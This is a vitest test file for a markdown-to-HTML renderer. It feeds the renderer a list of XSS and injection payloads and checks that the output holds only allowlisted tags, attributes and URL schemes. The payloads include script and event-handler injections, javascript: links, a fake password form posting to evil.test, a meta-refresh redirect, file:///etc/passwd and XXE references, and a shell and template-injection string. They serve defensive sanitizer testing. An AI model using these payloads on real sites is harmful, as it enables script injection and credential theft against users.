import { expect, it } from "vitest";
import { renderMarkdown } from "../render-markdown.ts";

// What an author might try so that script runs, or a form or frame appears, in a reader's page. The output is
// taken apart tag by tag: everything in it must be on the list below, not merely free of known attacks.

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;background:url(https://evil.test)">x</div>',
  "<style>* { display: none }</style>",
  "<style>@import 'https://evil.test'</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "<details open ontoggle=alert(1)>",
  "<p id=__remixContext name=x class=callout>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#x6a;avascript:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://a/b)",
  "[x](file:///etc/passwd)",
  "<javascript:alert(1)>",
  "[x]\n\n[x]: javascript:alert(1)",
  '[x](https://a.test "t\\" onmouseover=\\"alert(1)")',
  "![x](javascript:alert(1))",
  '![x"onerror="alert(1)](https://a.test/b.png)',
  '![x](https://a.test/"onerror="alert(1).png)',
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "[![x](javascript:alert(1))](javascript:alert(1))",
  '## <img src=x onerror=alert(1)> "title" onload=x',
  "> [!NOTE]\n> <script>alert(1)</script>",
  '> [!NOTE" onclick="alert(1)]\n> x',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html\n<script>alert("</code></pre><script>alert(1)</script>")</script>\n```',
  "```python onload=alert(1) style=x\n</span></code></pre><script>alert(1)</script>\n```",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | --- |\n| <img src=x onerror=alert(1)> | `</td>` |",
  "A[^<script>].\n\n[^<script>]: <img src=x onerror=alert(1)>",
  'A[^x" onload="y].\n\n[^x" onload="y]: z',
  "<a href='x'><b><i></a></b></i><table><tr><div><script>alert(1)</table>",
  "</div></main></body><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
  "<!--><script>alert(1)</script>-->",
  "`<script>`<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u0000<scr\u0000ipt>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "$(touch x) {{constructor.constructor('alert(1)')()}} <%= x %>",
];

const anywhere = ["id", "class", "tabindex", "role", "aria-label", "aria-hidden", "aria-describedby"];
const allowed: Record<string, readonly string[]> = {
  a: ["href", "title", "target", "rel", "data-footnote-ref", "data-footnote-backref"],
  img: ["src", "alt", "title", "loading", "decoding", "referrerpolicy"],
  input: ["type", "checked", "disabled"],
  figure: ["data-language"],
  span: ["style"],
  section: ["data-footnotes"],
  td: ["align"],
  th: ["align"],
  ol: ["start"],
  ...Object.fromEntries(
    "h2 h3 h4 h5 h6 p blockquote ul li hr br pre code em strong del sup aside figcaption div table thead tbody tr"
      .split(" ")
      .map((name) => [name, []]),
  ),
};

it.each(hostile)("makes %j harmless", async (source) => {
  const { html } = await renderMarkdown(source);
  for (const { name, attributes } of tagsOf(html)) {
    expect(Object.keys(allowed), `<${name}> in ${html}`).toContain(name);
    for (const [key, value] of attributes) {
      expect([...anywhere, ...(allowed[name] ?? [])], `${key} on <${name}> in ${html}`).toContain(key);
      if (key === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|[/#]|[^:]*$)/);
      if (key === "src") expect(value).toMatch(/^(?:https:\/\/|[^:]*$)/);
      if (key === "style")
        expect(value).toMatch(/^--shiki-light:#\w+;--shiki-dark:#\w+(?:;--shiki-[\w-]+:[\w #]+)*$/);
      if (key === "id") expect(value).toMatch(/^(?:section-.*|footnote-label)$/);
      if (key === "type") expect(value).toBe("checkbox");
    }
  }
});

interface Tag {
  name: string;
  attributes: [string, string][];
}

/** Reads HTML the way a browser's tokenizer does, and fails where it finds a `<` that is no well-formed tag. */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  const tag = /<(\/?)([a-z][a-z0-9]*)((?:\s+[^\s=>"'/]+(?:="[^"]*")?)*)\s*>/y;
  for (let at = html.indexOf("<"); at !== -1; at = html.indexOf("<", tag.lastIndex)) {
    tag.lastIndex = at;
    const match = tag.exec(html);
    expect(match, `a tag at ${html.slice(at, at + 40)}`).not.toBeNull();
    if (!match) return tags;
    const attributes = [...(match[3] ?? "").matchAll(/\s+([^\s=>"'/]+)(?:="([^"]*)")?/g)];
    tags.push({
      name: match[2] ?? "",
      attributes: attributes.map(([, key = "", value = ""]) => [key, unescape(value)]),
    });
  }
  return tags;
}

function unescape(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replaceAll("&amp;", "&");
}
